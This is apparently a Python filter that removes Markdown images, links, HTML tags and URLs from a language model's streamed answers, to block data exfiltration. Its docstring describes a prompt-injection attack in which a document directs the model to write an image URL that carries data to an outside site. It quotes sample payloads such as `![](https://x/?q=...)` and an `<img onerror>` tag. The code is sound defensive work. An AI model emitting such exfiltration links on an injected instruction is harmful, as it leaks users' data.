"""Links, images and HTML out of answer text.

An answer cites its sources by number; the front ends link those sources themselves. A
URL in the answer text has no use and one danger: a document can tell a language model to
write an image or link whose address carries data to another site (`![](https://x/?q=...)`),
which a chat client that renders Markdown loads by itself, and which Slack unfurls. So
Markdown images (inline and by reference) are removed, Markdown links keep only their text,
reference definitions (`[1]: https://...`) and HTML tags (`<img src=... onerror=...>`) are
removed, and every URL (with a scheme, protocol-relative, or a host name followed by a
path) is removed. A backslash counts as a slash: browsers read `https:\\x\\a.png` as
`https://x/a.png`. A bare host name such as "www.midwest.be" stays: documents name websites
as facts, and a name carries no data.
"""

import re
from collections.abc import Iterable, Iterator

LINKS_REMOVED = "Een link of afbeelding is uit het antwoord weggelaten: antwoorden linken niet naar buiten."

_IMAGE = re.compile(r"[ \t]*!\[[^\]\n]*\](?:\([^)\n]*\)|\[[^\]\n]*\])")
_LINK = re.compile(r"\[([^\]\n]*)\]\([^)\n]*\)")
# "[tekst][ref]" is a link by reference; "[1][3]" is two citation markers and stays.
_REFERENCE_LINK = re.compile(r"\[(?!\d+\])([^\]\n]*)\]\[[^\]\n]*\]")
# A line that opens like a reference definition ("[1]: https://x/a.png") goes whole: with
# its address removed, what is left of it would still define a link target.
_REFERENCE_DEFINITION = re.compile(r"^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*\S[^\n]*(?:\n|$)", re.MULTILINE)
# An HTML tag, also one left open at the end of the text; "a < b" and "<3" are no tags.
_HTML_TAG = re.compile(r"</?[a-z][^<>\n]*(?:>|$)", re.IGNORECASE | re.MULTILINE)
_SLASH = r"[/\\]"
# An address (also an autolink "<https://...>") ends before whitespace, brackets and
# quotes, and not on the punctuation of the sentence around it. The space before it goes
# with it ("zie https://x/a." -> "zie.").
_URL = re.compile(
    rf"[ \t]*<?(?:(?:\b[a-z][a-z0-9+.-]*:)?{_SLASH}{{2}}"
    rf"|\b(?=[a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z]{{2,}}{_SLASH}))"
    r"[^\s<>()\[\]{}\"']*[^\s<>()\[\]{}\"'.,;:!?]>?",
    re.IGNORECASE,
)
# The end of streamed text that may still change as more arrives: the word still arriving;
# when it ends a Markdown link, image or reference definition, all of it ("[text](https://...",
# "[1]: https://..." up to the end of its line); an HTML tag not yet closed.
_UNFINISHED = re.compile(
    r"!?\[[^\]\n]*(?:\](?:\([^)\n]*\)?|\[[^\]\n]*\]?|:[^\n]*)?)?\S*\Z"
    r"|<[a-z/][^<>\n]*>?\Z|\S*\Z",
    re.IGNORECASE,
)


def remove_links(text: str) -> str:
    """`text` without Markdown images, link targets, reference definitions, HTML tags and
    URLs; everything else unchanged."""
    text = _REFERENCE_DEFINITION.sub("", text)
    text = _REFERENCE_LINK.sub(r"\1", _LINK.sub(r"\1", _IMAGE.sub("", text)))
    return _URL.sub("", _HTML_TAG.sub("", text))


def without_links(pieces: Iterable[str]) -> Iterator[str]:
    """Streamed text with `remove_links` applied as it passes. Only what may still become
    a link is held back, so every link and URL is seen whole before any of it is passed on."""
    pending = ""
    for piece in pieces:
        pending += piece
        unfinished = _UNFINISHED.search(pending)
        assert unfinished is not None  # the empty match at the end is always there
        settled, pending = pending[: unfinished.start()], pending[unfinished.start() :]
        if settled and (cleaned := remove_links(settled)):
            yield cleaned
    if pending and (cleaned := remove_links(pending)):
        yield cleaned
